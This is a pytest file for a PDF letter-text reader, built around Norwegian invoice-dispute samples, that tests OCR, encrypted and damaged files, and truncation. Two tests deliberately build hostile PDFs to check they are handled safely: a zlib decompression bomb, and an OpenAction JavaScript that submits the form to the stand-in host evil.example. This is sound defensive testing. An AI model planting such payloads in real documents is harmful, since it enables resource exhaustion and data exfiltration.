"""What stands in a letter, whatever the file is."""

import shutil
import zlib
from io import BytesIO
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
import typst
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, EncodedStreamObject, NameObject, StreamObject, TextStringObject

from connectors.letter_text import LONGEST, Letter, Unread, read_letter


def scanned(*lines: str, password: str | None = None, pages: int = 1) -> bytes:
    """A PDF that says this on its first page."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if lines and pages:
        font = {"/Type": NameObject("/Font"), "/Subtype": NameObject("/Type1"), "/BaseFont": NameObject("/Helvetica")}
        named = DictionaryObject({NameObject(key): value for key, value in font.items()})
        fonts = DictionaryObject({NameObject("/F1"): named})
        shown = " ".join(f"({line}) Tj 0 -14 Td" for line in lines)
        stream = StreamObject()
        stream.set_data(f"BT /F1 10 Tf 50 800 Td {shown} ET".encode("latin-1"))
        page = writer.pages[0]
        page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
        page[NameObject("/Contents")] = writer._add_object(stream)
    if password:
        writer.encrypt(password)
    into = BytesIO()
    writer.write(into)
    return into.getvalue()


async def test_the_text_layer_is_read() -> None:
    letter = await read_letter(scanned("Hei, jeg er uenig.", "KID 006402710013"))
    assert letter.text == "Hei, jeg er uenig.\nKID 006402710013"
    assert letter.unread is None


@pytest.mark.parametrize(("pdf", "why"), [
    (scanned("hemmelig", password="x"), Unread.ENCRYPTED),
    (scanned(pages=0), Unread.NO_PAGES),
    (scanned(), Unread.NO_TEXT),
    (b"%PDF-1.7\nnothing of it\n%%EOF", Unread.DAMAGED),
    (b"", Unread.DAMAGED),
])  # fmt: skip
async def test_what_cannot_be_read_says_why(pdf: bytes, why: Unread, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "")
    assert await read_letter(pdf) == Letter("", why)


async def test_pages_of_pictures_are_recognised_where_the_program_is(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    program = tmp_path / "ocrmypdf"
    program.write_text('#!/bin/sh\nprintf "Fra papir\\001 KID 1" > "$5"\n')
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:/bin:/usr/bin")
    assert (await read_letter(scanned())).text == "Fra papir KID 1"
    program.write_text("#!/bin/sh\nexit 3\n")
    assert (await read_letter(scanned())).unread is Unread.NO_TEXT
    program.write_text("#!/bin/sh\nexec sleep 60\n")
    monkeypatch.setattr("connectors.letter_text._OCR_PATIENCE", 0.2)
    assert (await read_letter(scanned())).unread is Unread.TOO_SLOW


async def test_a_letter_without_an_end_is_cut() -> None:
    assert len((await read_letter(scanned(*["x" * 90] * 400))).text) <= LONGEST


def a_picture_of(*lines: str) -> bytes:
    """A PDF whose only page is a picture that says this, as a scanner makes it."""
    said = "\n\n".join(lines)
    page = f'#set page(width: 210mm, height: 297mm, margin: 25mm)\n#set text(size: 12pt, lang: "nb")\n{said}'
    picture = typst.compile(page.encode(), format="png", ppi=300.0, ignore_system_fonts=True)
    with TemporaryDirectory() as folder:
        (Path(folder) / "page.png").write_bytes(picture)  # type: ignore[arg-type]  # of one page it is no list
        sheet = Path(folder) / "sheet.typ"
        sheet.write_text('#set page(width: 210mm, height: 297mm, margin: 0pt)\n#image("page.png", width: 210mm)')
        made = typst.compile(sheet, root=folder, format="pdf")
    assert isinstance(made, bytes)
    return made


@pytest.mark.timeout(240)
async def test_a_scanned_page_is_read_by_the_program_itself() -> None:
    if shutil.which("ocrmypdf") is None:
        pytest.skip("ocrmypdf is not installed: apt-get install ocrmypdf tesseract-ocr-nor")
    letter = await read_letter(
        a_picture_of("Jeg er uenig i fakturaen på 802 kroner.", "KID 006402710013", "Vår på Ålesund")
    )
    assert letter.unread is None
    without_rings = letter.text.replace("å", "a").replace("Å", "A")  # which the program sees or does not
    assert without_rings.splitlines() == [
        "Jeg er uenig i fakturaen pa 802 kroner.",
        "KID 006402710013",
        "Var pa Alesund",
    ]


async def test_of_five_hundred_pages_the_first_are_read() -> None:
    letter = await read_letter(scanned("Dette er side en.", pages=500))
    assert letter == Letter("Dette er side en.")


async def test_a_page_that_swells_without_end_is_left_to_a_person() -> None:
    writer = PdfWriter(clone_from=PdfReader(BytesIO(scanned("x"))))
    bomb = EncodedStreamObject()
    bomb[NameObject("/Filter")] = NameObject("/FlateDecode")
    bomb._data = zlib.compress(b" " * 150_000_000, 9)
    writer.pages[0][NameObject("/Contents")] = writer._add_object(bomb)
    into = BytesIO()
    writer.write(into)
    assert len(into.getvalue()) < 1_000_000
    assert await read_letter(into.getvalue()) == Letter("", Unread.DAMAGED)


async def test_what_a_letter_would_do_is_not_done_and_its_words_are_read() -> None:
    writer = PdfWriter(clone_from=PdfReader(BytesIO(scanned("Hei, jeg er uenig."))))
    script = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("this.submitForm('https://evil.example')")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject({NameObject(k): v for k, v in script.items()})
    into = BytesIO()
    writer.write(into)
    assert await read_letter(into.getvalue()) == Letter("Hei, jeg er uenig.")
